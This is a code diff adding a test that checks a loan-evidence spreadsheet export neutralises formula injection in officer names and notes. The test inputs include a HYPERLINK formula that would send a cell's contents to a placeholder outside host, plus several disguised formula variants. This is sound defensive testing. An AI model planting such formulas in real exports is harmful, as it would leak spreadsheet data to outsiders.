@@ -348,3 +348,19 @@ def test_cli_demo_decides_for_the_officers_borrowers_in_good_standing(
     assert [u for u, _ in rows] == sorted(good)[:2] + sorted(good)
     assert {o for _, o in rows} == {"b1officer"}
     assert dishonest not in {u for u, _ in rows} and other_bank_only not in {u for u, _ in rows}
+
+
+def test_evidence_workbook_keeps_formula_looking_text_as_text(engine: Engine, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    """The officer's name and note reach the summary sheet: a live =HYPERLINK there once."""
+    _tech_model(engine)
+    code = add_firm(engine, 7, quals=("hnte",), dpd=0)
+    link = '=HYPERLINK("http://x.example/?d="&B2,"证据")'
+    out = decisions.decide(engine, code, TABLE, as_of=date(2026, 6, 1), officer=link)
+    decisions.record_action(engine, out["decision_id"], "@SUM(1)", "approve", note="＝1+1")
+    evidence.export(engine, str(out["decision_id"]), tmp_path)
+    wb = load_workbook(tmp_path / f"evidence-{out['decision_id']}.xlsx")
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    summary = {r[0].value: r[1] for r in wb["summary 概览"].iter_rows()}
+    for key, text in (("officer", link), ("action_by", "@SUM(1)"), ("action_note", "＝1+1")):
+        assert summary[key].value == text and summary[key].quotePrefix, key
